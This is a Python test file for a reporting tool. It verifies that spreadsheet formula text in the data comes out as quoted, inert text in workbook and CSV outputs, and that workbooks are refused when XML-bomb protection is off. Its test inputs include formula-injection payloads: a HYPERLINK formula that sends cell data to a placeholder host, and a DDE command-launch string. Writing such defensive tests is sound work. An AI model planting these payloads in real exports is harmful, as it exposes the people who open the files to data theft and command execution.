"""Formula injection, end to end: text from the data that a spreadsheet would run as a formula
(an office named `=HYPERLINK(...)`, `+...`, `-...`, `@...`) reaches the workbook and the CSV
through a disaggregation, and is written as inert text everywhere."""

from __future__ import annotations

import io
import shutil
import zipfile

import openpyxl
import pandas as pd

from tests.conftest import REPO

CLEAN = REPO / "tests" / "data" / "clean"
EVIL = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]

INDICATOR = """\
id: SEC-01
name: Victims identified, by office
pillar: protection
level: result
result: Victims are identified
definition: Distinct persons registered, by the office that registered them.
unit: persons
dataset: cases
measure: {type: count_distinct, column: case_id}
date: registration_date
disaggregations: [office]
cumulation: per_period
direction: increase
verification: {method: [case records review], source: case register}
frequency: {collection: monthly, reporting: quarterly}
references:
  - source: a test of formula injection
    provenance: derived
"""


def test_formula_text_from_data_is_never_a_formula(tmp_path, cli):
    project = tmp_path / "project"
    shutil.copytree(CLEAN, project)
    cases = pd.read_csv(project / "cases.csv", dtype=str, keep_default_na=False)
    cases["office"] = [EVIL[i % len(EVIL)] for i in range(len(cases))]
    cases.to_csv(project / "cases.csv", index=False)
    (project / "indicators").mkdir()
    (project / "indicators" / "SEC-01.yaml").write_text(INDICATOR, encoding="utf-8")
    y = (project / "mel.yaml").read_text(encoding="utf-8")
    y = y.replace("select: [PROT-01, PROT-02]", "select: [SEC-01]\n  paths: [indicators]")
    (project / "mel.yaml").write_text(y, encoding="utf-8")
    out = tmp_path / "out"
    r = cli(
        "report", str(project), "-p", "2024-Q4", "--as-of", "2026-01-15", "-o", str(out),
        "--internal",
    )  # fmt: skip
    assert r.exit_code == 0, r.output
    r = cli("compute", str(project), "--as-of", "2026-01-15", "-o", str(out / "c.csv"))
    assert r.exit_code == 0, r.output

    workbook = out / "report-2024-Q4.xlsx"
    wb = openpyxl.load_workbook(workbook)  # formulas as written, not values
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str) and c.value in EVIL:
                    seen.add(c.value)
    assert seen == set(EVIL)  # the offices are in the report, as text
    with zipfile.ZipFile(workbook) as z:  # and no <f> element in any sheet's XML
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name

    for name in ("results-2024-Q4.csv", "c.csv"):
        text = (out / name).read_text(encoding="utf-8")
        table = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
        categories = set(table["category"])
        for evil in EVIL:
            assert evil not in categories, (name, evil)  # never as written ...
            assert "'" + evil in categories, (name, evil)  # ... but quoted as text


def test_workbooks_are_not_read_without_xml_bomb_protection(tmp_path, monkeypatch):
    """openpyxl parses with defusedxml only when it is installed and OPENPYXL_DEFUSEDXML is
    not False: without that protection mel reads no workbook at all."""
    import pytest

    from mel.data.readers import read_table
    from mel.errors import DataError

    wb = openpyxl.Workbook()
    wb.active.append(["case_id"])
    wb.active.append(["A"])
    path = tmp_path / "cases.xlsx"
    wb.save(path)
    assert read_table(path).header == ["case_id"]
    monkeypatch.setattr(openpyxl, "DEFUSEDXML", False)
    with pytest.raises(DataError, match="XML-bomb protection, which is switched off") as err:
        read_table(path)
    assert "OPENPYXL_DEFUSEDXML" in err.value.findings[0].hint


def test_tidy_files_of_columns_without_formula_text_as_every_cell_mapped(tmp_path, monkeypatch):
    """A text column where no cell starts as a formula is written as it is: the CSV and
    Parquet files have the bytes of the same table with every text cell passed through
    ``safe_text`` (as before the shortcut), on random columns of text, objects and numbers,
    with and without formula-like cells."""
    import numpy as np

    from mel.outputs import tidy

    rng = np.random.default_rng(21)
    plain = ["a", "b c", "é", "", "2024-01-01"]
    formulas = ["-1.5", "=SUM(A1)", "+x", "@y", "\tz"]
    shortcut = tidy._no_formula
    for trial in range(30):
        n = int(rng.integers(1, 30))
        words = plain + formulas if trial % 2 else plain
        table = pd.DataFrame(
            {
                "text": pd.Series(rng.choice(words, n), dtype="str").where(rng.random(n) > 0.2),
                "plain": pd.Series(rng.choice(["x", "y"], n), dtype="str"),
                "objects": pd.Series(list(rng.choice(["=z", None, "w", "v"], n)), dtype=object),
                "value": rng.random(n),
            }
        )
        for fmt in ("csv", "parquet"):
            got, want = tmp_path / f"got.{fmt}", tmp_path / f"want.{fmt}"
            monkeypatch.setattr(tidy, "_no_formula", shortcut)
            tidy.write_table(table, got)
            monkeypatch.setattr(tidy, "_no_formula", lambda column: False)  # every cell mapped
            tidy.write_table(table, want)
            assert got.read_bytes() == want.read_bytes(), (trial, fmt)
    assert shortcut(pd.Series(["a", None], dtype="str"))
    assert not shortcut(pd.Series(["a", "=b"], dtype="str"))
    assert not shortcut(pd.Series(["a"], dtype=object))
